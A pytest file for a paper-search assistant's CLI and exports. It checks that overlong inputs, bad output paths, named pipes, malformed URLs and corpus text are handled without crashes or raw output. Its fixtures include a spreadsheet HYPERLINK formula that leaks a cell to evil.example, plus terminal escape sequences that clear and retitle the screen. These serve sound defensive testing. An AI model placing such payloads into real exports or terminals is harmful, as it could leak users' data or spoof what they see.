"""The hostile catalogue of issue 36: inputs a user or a corpus can send that once ended in a
traceback, a hang or text written raw. Each case names the probe it replays."""

from __future__ import annotations

import csv
import io
import os

import pytest
from conftest import run_cli

from rag.answering.chain import Assistant
from rag.answering.research import MAX_COLUMNS
from rag.errors import InputError, OutputPathError, QuestionTooLongError
from rag.export import bibtex, research_csv, research_markdown, table_csv
from rag.index.store import Index
from rag.markup import csv_cell, escape_markdown, to_bibtex
from rag.outputs import checked_output, write_output
from rag.records import ComparisonTable, Paper, ResearchCell, ResearchRow, ResearchTable, TableCell, TableRow
from rag.settings import Settings

# A title that a spreadsheet would run, and text that would clear a terminal and retitle it.
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ESCAPES = "\x1b[2J\x1b]0;owned\x07Mixture\x1b[31m of heads"


@pytest.fixture
def assistant(tmp_path, embeddings) -> Assistant:
    settings = Settings(data_dir=tmp_path, backend="extractive")
    return Assistant(Index.open(settings, embeddings=embeddings), settings)


# --- one input boundary --------------------------------------------------------------------------


def test_a_column_query_or_question_past_the_limit_is_our_error_naming_which(assistant):
    # Probe: `paperchat table ... --column "<5,000 characters>"` and a 20,000-character query
    # ended in the tokenizer's "Truncation error".
    long = "attention heads " * 400
    with pytest.raises(QuestionTooLongError, match="column 2 is 6,400 characters long"):
        assistant.table_columns(["What data?", long])
    with pytest.raises(QuestionTooLongError, match="the query is"):
        assistant.table_papers(long)
    with pytest.raises(QuestionTooLongError, match="the query is"):
        assistant.search_papers(long)
    with pytest.raises(QuestionTooLongError, match="the question is"):
        assistant.ask(long)


def test_an_empty_column_or_more_than_a_table_shows_is_refused(assistant):
    # Probe: an empty column was accepted, and a cell quoted a sentence for "".
    with pytest.raises(InputError, match="column 2 is empty"):
        assistant.table_columns(["What data?", "  "])
    # Probe: 60 columns shrank the terminal table to zero-width columns, silently.
    with pytest.raises(InputError, match=f"at most {MAX_COLUMNS}"):
        assistant.table_columns([f"Question {n}?" for n in range(60)])
    assert assistant.table_columns(["What data?"]) == ("What data?",)


# --- output paths --------------------------------------------------------------------------------


def test_an_output_path_that_cannot_be_written_is_named_before_any_work(tmp_path):
    # Probes: --csv nodir/sub/t.csv (FileNotFoundError), --csv <a directory> (IsADirectoryError),
    # --csv /proc/version (OSError).
    with pytest.raises(OutputPathError, match="does not exist"):
        checked_output(tmp_path / "nodir" / "sub" / "t.csv")
    with pytest.raises(OutputPathError, match="is a folder"):
        checked_output(tmp_path)
    pipe = tmp_path / "pipe.csv"
    os.mkfifo(pipe)
    with pytest.raises(OutputPathError, match="not a regular file"):
        checked_output(pipe)
    assert checked_output(tmp_path / "t.csv") == tmp_path / "t.csv"


def test_an_output_is_written_whole_or_the_old_file_stays(tmp_path, monkeypatch):
    path = tmp_path / "t.csv"
    path.write_text("old", encoding="utf-8")

    def full_disk(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", full_disk)
    with pytest.raises(OutputPathError, match="No space left on device"):
        write_output(path, "new")
    assert path.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]
    monkeypatch.undo()
    write_output(path, "new")
    assert path.read_text(encoding="utf-8") == "new"


def test_the_table_command_refuses_a_bad_path_or_column_in_one_line_without_a_traceback(tmp_path):
    for args, said in (
        (["--csv", str(tmp_path / "nodir" / "sub" / "t.csv")], "does not exist"),
        (["--csv", str(tmp_path)], "is a folder"),
        (["--column", "x" * 5_000], "column 1 is 5,000 characters long"),
        (["--column", ""], "column 1 is empty"),
    ):
        done = run_cli(tmp_path / "index", "table", "Which papers are about bandits?", *args, check=False)
        assert done.returncode == 1 and said in done.stderr, done.stderr
        assert "Traceback" not in done.stderr
    done = run_cli(tmp_path / "index", "ask", "How does MoH work?", "--export", str(tmp_path / "no" / "a.md"), check=False)
    assert done.returncode == 1 and "does not exist" in done.stderr and "Traceback" not in done.stderr


# --- text made safe on every surface -------------------------------------------------------------


def test_each_surface_drops_control_sequences_and_keeps_the_letters():
    for written in (escape_markdown(ESCAPES), to_bibtex(ESCAPES), csv_cell(ESCAPES)):
        assert "\x1b" not in written and "\x07" not in written and "owned" not in written
        assert "Mixture of heads" in written.replace("\\", "")


def test_a_link_sequence_in_an_abstract_with_latex_keeps_every_letter_of_its_text():
    # Probe: search showed "show 8;;http://evil.example/ink8;;uts latency": read as LaTeX, the
    # link's "ESC \\" ending ate the letter after it, and the rest of the sequence stayed.
    from rag.markup import to_plain

    abstract = "We show \x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\ cuts latency by $\\sim$2x."
    assert to_plain(abstract) == "We show link cuts latency by ∼2x."


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_a_csv_cell_that_would_start_a_formula_is_led_by_a_quote_mark(start):
    assert csv_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
    assert csv_cell("A sum, = not a formula") == "A sum, = not a formula"
    # A carriage return is a control character: dropped, as on every surface.
    assert csv_cell("\r=SUM(A1:A9)") == "'=SUM(A1:A9)"


def _hostile_paper() -> Paper:
    return Paper(id="p1", title=FORMULA, authors=[ESCAPES], abstract=f"{ESCAPES} routes tokens to heads.", year=2025)


def test_exports_carry_no_formula_and_no_escape_from_the_corpus():
    # Probes: CSV titles, Markdown authors and BibTeX abstracts carried corpus escapes raw; an
    # abstract or title starting "=HYPERLINK(" was written as is into the research CSV.
    paper = _hostile_paper()
    cell = ResearchCell(quote=f"{FORMULA} routes tokens.", covered=True, sure=True)
    table = ResearchTable(columns=("What method?",), rows=(ResearchRow(paper_id="p1", title=FORMULA, cells=(cell,)),))
    rows = list(csv.reader(io.StringIO(research_csv(table))))
    assert rows[1][1].startswith("'=HYPERLINK") and rows[1][2].startswith("'=HYPERLINK")
    comparison = ComparisonTable(aspects=("method",), rows=(TableRow(paper=FORMULA, number=1, cells=(TableCell(text=FORMULA),)),))
    assert all(not c.startswith("=") for r in csv.reader(io.StringIO(table_csv(comparison))) for c in r)
    for written in (research_markdown(table, [paper]), bibtex([paper])):
        assert "\x1b" not in written and "\x07" not in written


# --- the conversations folder --------------------------------------------------------------------


def test_a_pipe_or_an_oversized_file_among_conversations_is_skipped_by_name(tmp_path, monkeypatch):
    # Probes: a named pipe `*.json` made the sidebar's list hang forever; a 300 MB file was read
    # whole (about 985 MB at peak).
    import rag.conversations as conversations

    store = conversations.ConversationStore(tmp_path)
    os.mkfifo(tmp_path / "pipe.json")
    big = tmp_path / "big.json"
    big.write_text("{" + " " * 2_000 + "}", encoding="utf-8")
    monkeypatch.setattr(conversations, "MAX_BYTES", 1_000)
    listing = store.list()
    reasons = {os.path.basename(s.path): s.reason for s in listing.skipped}
    assert reasons["pipe.json"] == "not a regular file"
    assert "past the" in reasons["big.json"]
    assert listing.conversations == ()


# --- the model client ----------------------------------------------------------------------------


def test_a_malformed_base_url_is_a_settings_error_naming_the_variable_without_its_password(monkeypatch):
    # Probe: `http://user:pw@[::1:bad/v1` gave "TypeError: unhashable type: 'Timeout'", then InvalidURL.
    from rag.errors import ConfigError

    monkeypatch.setenv("OPENAI_BASE_URL", "http://user:pw-canary@[::1:bad/v1")
    with pytest.raises(ConfigError, match="OPENAI_BASE_URL") as bad:
        Settings()
    assert "pw-canary" not in str(bad.value)
    monkeypatch.setenv("OPENAI_BASE_URL", "localhost:8080/v1")
    with pytest.raises(ConfigError, match="http:// or https://"):
        Settings()


def test_the_base_urls_query_stays_a_query_and_its_user_info_never_replaces_the_bearer_key(tmp_path):
    # Probes: `.../v1?api_key=K` reached the server as the path `/v1/?api_key=Kchat/completions`;
    # `user:pass@` in the URL sent `Authorization: Basic ...` instead of the bearer key.
    from fake_openai import FakeOpenAI

    from rag.models.chat import openai_chat

    with FakeOpenAI() as server:
        with_user = server.base_url.replace("http://", "http://gw-user:gw-pass@") + "?api_key=qk"
        keyed = Settings(data_dir=tmp_path, openai_base_url=with_user, openai_api_key="sk-test", openai_model="fake")
        openai_chat(keyed).invoke("hi")
        unkeyed = Settings(data_dir=tmp_path, openai_base_url=with_user, openai_model="fake")
        openai_chat(unkeyed).invoke("hi")
    first, second = server.requests
    assert first["path"] == second["path"] == "/v1/chat/completions"
    assert first["query"] == second["query"] == "api_key=qk"
    assert first["authorization"] == "Bearer sk-test"
    assert second["authorization"] == "Bearer gw-pass"


# --- the citation check --------------------------------------------------------------------------


def _words_met(claim: str, candidates: list[str]) -> list[float]:
    """A scorer: the share of the claim's words each candidate holds."""
    words = {w.strip(".,:").casefold() for w in claim.split()}
    return [len(words & {w.strip(".,:").casefold() for w in c.split()}) / len(words) for c in candidates]


def test_a_claim_whose_subject_is_its_citation_is_checked_against_that_paper():
    # Probe: "It uses a Transformer [1]", rightly cited, was flagged as unsupported.
    from rag.answering.citations import SUPPORT_THRESHOLD, check_citations
    from rag.records import Source

    paper = Paper(
        id="drag",
        title="DragSolver: A Multi-Scale Transformer for Drag Coefficient Estimation",
        authors=["A"],
        abstract="Aerodynamic drag matters for cars. We estimate drag coefficients from 3D shapes in milliseconds.",
    )
    source = Source(number=1, paper=paper, score=1.0)
    [cited] = check_citations("It uses a Transformer [1].", [source], scorer=_words_met).citations
    assert cited.citing_sentence == "It uses a Transformer." and cited.support_score >= SUPPORT_THRESHOLD
    assert cited.support == paper.title
    # A claim that names its subject is read as written: no title stands in for an abstract.
    [named] = check_citations("Wings use a Transformer [1].", [source], scorer=_words_met).citations
    assert named.support != paper.title


def test_escape_residue_is_no_number_to_check():
    # Probe: the citation checker read escape residue as numbers ("does not give 0, 8").
    from rag.answering.check import check_support
    from rag.records import Citation

    citation = Citation(
        number=1,
        paper_id="p",
        title="T",
        authors=["A"],
        citing_sentence="It \x1b]0;title\x07routes \x1b]8;;http://x\x1b\\tokens.",
        support="It routes tokens.",
        support_score=0.9,
    )
    [checked] = check_support([citation])
    assert checked.unsupported_numbers == () and checked.supported
